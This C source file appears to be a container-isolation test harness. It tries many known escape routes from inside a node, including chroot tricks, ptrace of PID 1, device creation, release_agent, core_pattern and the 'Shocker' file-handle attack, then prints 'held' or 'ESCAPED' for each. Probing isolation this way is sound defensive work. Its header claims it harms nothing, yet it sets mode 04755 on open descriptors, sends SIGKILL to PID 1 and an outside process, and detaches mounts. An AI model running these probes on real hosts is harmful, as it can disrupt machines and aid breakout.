/*
 * Tries to get out of a node, in every way that is known of containers: `escape CANARY PID MAJOR MINOR`. CANARY is a file of the machine, PID a
 * process of it, MAJOR and MINOR a disk of it. Prints a line for each attempt: `NAME held`, or `NAME ESCAPED what`. Harms nothing where it gets out.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static const char *canary;
static pid_t outsider;
static dev_t disk;
static char out[512];	/* how it got out; empty: it did not */

static void escaped(const char *format, ...)
{
	size_t length = strlen(out);
	va_list list;

	va_start(list, format);
	vsnprintf(out + length, sizeof out - length, format, list);
	va_end(list);
	strncat(out, "; ", sizeof out - strlen(out) - 1);
}

static void readable(const char *path)
{
	int fd = open(path, O_RDONLY | O_NONBLOCK);

	if (fd >= 0)
		escaped("read %s", path);
	close(fd);
}

/* To open is enough: nothing is written. */
static void writable(const char *path)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK);

	if (fd >= 0)
		escaped("may write %s", path);
	close(fd);
}

static void each(const char *folder, void (*use)(const char *path, const char *name))
{
	DIR *all = opendir(folder);
	struct dirent *entry;
	char path[PATH_MAX];

	while (all && (entry = readdir(all))) {
		if (*entry->d_name == '.')
			continue;
		snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
		use(path, entry->d_name);
	}
	if (all)
		closedir(all);
}

/* ---- the attempts ---- */

static void nested_chroot(void)
{
	int before = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/tmp/jail", 0755);
	if (chroot("/tmp/jail") && errno != EPERM)
		return;
	if (fchdir(before))
		return;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			break;
	if (!chroot("."))
		readable(canary);
	readable(canary + 1);
}

static void root_of(const char *path, const char *name)
{
	static const char *const ways[] = { "root", "cwd", "root/..", "cwd/../../../../.." };
	char way[PATH_MAX];

	if (!atoi(name) && strcmp(name, "self"))
		return;
	for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
		snprintf(way, sizeof way, "%s/%s%s", path, ways[i], canary);
		readable(way);
	}
}

static void roots_of_processes(void)
{
	each("/proc", root_of);
}

static void descriptors(void)
{
	for (int fd = 0; fd < 4096; fd++) {
		struct stat file;

		if (fstat(fd, &file))
			continue;
		if (fd > 2)
			escaped("descriptor %d is open", fd);
		if (openat(fd, "..", O_RDONLY | O_DIRECTORY) >= 0 || openat(fd, canary + 1, O_RDONLY) >= 0)
			escaped("descriptor %d is a folder", fd);
		/* The same mode again: whoever looks at the machine's device sees that it was touched. */
		if (fchmod(fd, S_ISCHR(file.st_mode) ? file.st_mode & 07777 : 04755))
			continue;
	}
}

static void symlinks(void)
{
	readable("/out/canary");
	readable("/up/canary");
	readable("/proc/self/cwd/../../../../../../up/canary");
}

static void remount(void)
{
	static const char *const points[] = { "/", "/proc", "/proc/sys", "/proc/sysrq-trigger", "/sys" };

	for (size_t i = 0; i < sizeof points / sizeof *points; i++) {
		mount(NULL, points[i], NULL, MS_REMOUNT | MS_BIND, NULL);
		/* Never `/`: who may do it makes the machine's disk read-only. */
		if (i)
			umount2(points[i], MNT_DETACH);
	}
	mkdir("/tmp/again", 0755);
	mount("proc", "/tmp/again", "proc", 0, NULL);
	writable("/tmp/again/sys/kernel/core_pattern");
	writable("/tmp/again/sysrq-trigger");
	mount("sysfs", "/tmp/again", "sysfs", 0, NULL);
	writable("/tmp/again/kernel/uevent_helper");
	writable("/proc/sys/kernel/core_pattern");
}

static void open_disk(const char *path, mode_t kind, dev_t device)
{
	int fd;

	if (mknod(path, kind | 0600, device))
		return;
	fd = open(path, O_RDONLY | O_NONBLOCK);
	if (fd >= 0 || errno == ENXIO || errno == ENODEV || errno == ENOMEDIUM)
		escaped("opened a device at %s", path);
	close(fd);
	unlink(path);
}

static void make_devices(void)
{
	static const char *const places[] = { "/disk", "/dev/disk", "/dev/shm/disk", "/tmp/disk", "/dev/mqueue/disk", "/data/disk" };

	for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
		open_disk(places[i], S_IFBLK, disk);
		open_disk(places[i], S_IFCHR, makedev(1, 1));	/* mem */
		open_disk(places[i], S_IFCHR, makedev(1, 11));	/* kmsg */
	}
}

/* By a child: what it traces is free again when it ends. */
static bool traces(pid_t pid)
{
	int status = 0;
	pid_t child = fork();

	if (!child)
		_exit(ptrace(PTRACE_SEIZE, pid, NULL, NULL) ? 0 : 1);
	return waitpid(child, &status, 0) == child && WIFEXITED(status) && WEXITSTATUS(status) == 1;
}

static void trace(void)
{
	char byte;
	struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
	int pidfd = syscall(SYS_pidfd_open, 1, 0);

	if (traces(1))
		escaped("traces 1");
	if (process_vm_readv(1, &here, 1, &there, 1, 0) > 0 || errno == EFAULT)
		escaped("reads the memory of 1");
	if (pidfd >= 0 && syscall(SYS_pidfd_getfd, pidfd, 5, 0) >= 0)
		escaped("has a descriptor of 1");
	readable("/proc/1/mem");
	readable("/proc/1/environ");
	readable("/proc/1/exe");
	writable("/proc/1/exe");
	if (opendir("/proc/1/fd") && !access("/proc/1/fd/7", F_OK))
		escaped("sees the descriptors of 1");
	if (traces(outsider))
		escaped("traces %d", outsider);
}

/* Who is outside says what became of it. */
static void signals(void)
{
	static const int all[] = { SIGTERM, SIGUSR2, SIGSTOP, SIGKILL, SIGINT, SIGHUP, SIGSEGV };
	union sigval value = { 0 };

	for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
		kill(1, all[i]);
		sigqueue(1, all[i], value);
		if (!kill(outsider, all[i]))
			escaped("signalled %d", outsider);
	}
}

static void settings(void)
{
	static const char *const all[] = {
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/panic", "/proc/sys/kernel/sysrq",
		"/proc/sys/fs/file-max", "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/binfmt_misc/register",
		"/proc/irq/default_smp_affinity", "/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run", "/sys/power/state",
	};

	for (size_t i = 0; i < sizeof all / sizeof *all; i++)
		writable(all[i]);
}

static void sysrq(void)
{
	writable("/proc/sysrq-trigger");
}

static void agent_of(const char *path, const char *name)
{
	char file[PATH_MAX];

	(void)name;
	snprintf(file, sizeof file, "%s/release_agent", path);
	writable(file);
	snprintf(file, sizeof file, "%s/cgroup.procs", path);
	if (!strstr(path, "/sys/fs/cgroup"))
		return;
	writable(file);
}

static void release_agent(void)
{
	static const char *const kinds[] = { "memory", "pids", "cpu", "freezer" };

	mkdir("/tmp/cg", 0755);
	for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
		mount("cgroup", "/tmp/cg", "cgroup", 0, kinds[i]);
		agent_of("/tmp/cg", "");
		umount("/tmp/cg");
	}
	each("/sys/fs/cgroup", agent_of);
	agent_of("/sys/fs/cgroup", "");
}

static void modules(void)
{
	static const char nothing[] = "no module";

	if (!syscall(SYS_init_module, nothing, sizeof nothing, "") || (errno != EPERM && errno != ENOSYS))
		escaped("may load modules: %s", strerror(errno));
	if (!syscall(SYS_delete_module, "no_such_module", 0) || (errno != EPERM && errno != ENOSYS))
		escaped("may unload modules: %s", strerror(errno));
}

static void join_of(const char *path, const char *name)
{
	static const char *const kinds[] = { "mnt", "net", "pid", "uts", "ipc", "user", "cgroup", "time" };

	if (!atoi(name))
		return;
	for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
		char file[PATH_MAX], own[64];
		struct stat there, here;
		int fd;

		snprintf(file, sizeof file, "%s/ns/%s", path, kinds[i]);
		snprintf(own, sizeof own, "/proc/self/ns/%s", kinds[i]);
		fd = open(file, O_RDONLY);
		if (fd < 0 || fstat(fd, &there) || stat(own, &here) || there.st_ino == here.st_ino)
			continue;
		if (!setns(fd, 0))
			escaped("joined %s", file);
	}
}

static void namespaces(void)
{
	each("/proc", join_of);
}

/* "Shocker": a handle is a number that can be guessed, and inode 2 is the root of a disk. */
static void handles(void)
{
	static const char *const mounts[] = { "/", "/etc/hosts", "/dev/null", "/dev", "/etc/hostname" };
	struct {
		struct file_handle head;
		unsigned char bytes[8];
	} handle = { .head = { 8, 1 }, .bytes = { 2 } };

	for (size_t i = 0; i < sizeof mounts / sizeof *mounts; i++) {
		int fd = open(mounts[i], O_RDONLY | O_NONBLOCK);

		if (syscall(SYS_open_by_handle_at, fd, &handle, O_RDONLY) >= 0 || errno == ESTALE)
			escaped("a handle below %s is looked at", mounts[i]);
		close(fd);
	}
}

static void device_of(const char *path, const char *name)
{
	struct stat file;

	(void)name;
	if (!stat(path, &file) && S_ISBLK(file.st_mode))
		readable(path);
}

static void raw_devices(void)
{
	each("/dev", device_of);
	readable("/dev/mem");
	readable("/dev/port");
	readable("/dev/kmsg");
	readable("/proc/kmsg");
	readable("/dev/fuse");
}

static void call(const char *path, const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	struct stat file;

	(void)name;
	if (!lstat(path, &file) && S_ISDIR(file.st_mode) && !strncmp(path, "/run/", 5) && strlen(path) < 200)
		each(path, call);
	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	if (!connect(fd, (struct sockaddr *)&address, sizeof address))
		escaped("called %s", path);
	close(fd);
}

static void sockets(void)
{
	char path[64];

	each("/run", call);
	for (int fd = 0; fd < 32; fd++) {
		snprintf(path, sizeof path, "/proc/1/fd/%d", fd);
		each(path, call);
	}
	snprintf(path, sizeof path, "/proc/%d/root/run/netlab", outsider);
	each(path, call);
}

static void clock_and_ports(void)
{
	struct timespec now;

	clock_gettime(CLOCK_REALTIME, &now);
	if (!clock_settime(CLOCK_REALTIME, &now))
		escaped("may set the clock");
#ifdef SYS_iopl
	if (!syscall(SYS_iopl, 3))
		escaped("has the ports of the machine");
#endif
}

static const struct {
	const char *name;
	void (*attempt)(void);
} attempts[] = {
	{ "descriptors", descriptors }, { "symlinks", symlinks },	{ "processes", roots_of_processes },
	{ "devices", make_devices },	{ "trace", trace },		{ "settings", settings },
	{ "sysrq", sysrq },		{ "modules", modules },		{ "namespaces", namespaces },
	{ "handles", handles },		{ "raw", raw_devices },		{ "sockets", sockets },
	{ "clock", clock_and_ports },	{ "agent", release_agent },	{ "remount", remount },
	{ "chroot", nested_chroot },	{ "signals", signals },
};

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	canary = argv[1];
	outsider = atoi(argv[2]);
	disk = makedev(atoi(argv[3]), atoi(argv[4]));
	setlinebuf(stdout);
	for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) {
		*out = 0;
		attempts[i].attempt();
		printf("%s %s%s\n", attempts[i].name, *out ? "ESCAPED " : "held", out);
	}
	printf("done\n");
	return 0;
}
